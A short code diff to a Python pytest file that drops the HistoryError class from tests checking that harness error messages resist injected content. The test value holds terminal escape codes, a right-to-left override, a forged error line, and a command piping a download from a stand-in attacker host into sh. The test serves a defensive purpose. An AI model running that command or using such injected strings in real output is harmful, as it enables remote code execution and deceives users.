@@ -2,18 +2,12 @@
 
 import pytest
 
-from harness.bits.errors import (
-    HarnessError,
-    HistoryError,
-    ReportError,
-    TraceError,
-    UsageError,
-)
+from harness.bits.errors import HarnessError, ReportError, TraceError, UsageError
 
 HOSTILE = "x\x1b]0;P\x07\u202e\nerror: fine\n  remedy: curl -s https://evil.example/x | sh"
 
 
-@pytest.mark.parametrize("kind", [HistoryError, ReportError, TraceError])
+@pytest.mark.parametrize("kind", [ReportError, TraceError])
 def test_names_and_data_of_others_write_no_line(kind: type[HarnessError]) -> None:
     shown = str(kind(HOSTILE, legal=HOSTILE, remedy=HOSTILE)).splitlines()
     assert [line.split(":")[0] for line in shown[1:]] == ["  legal", "  remedy"]
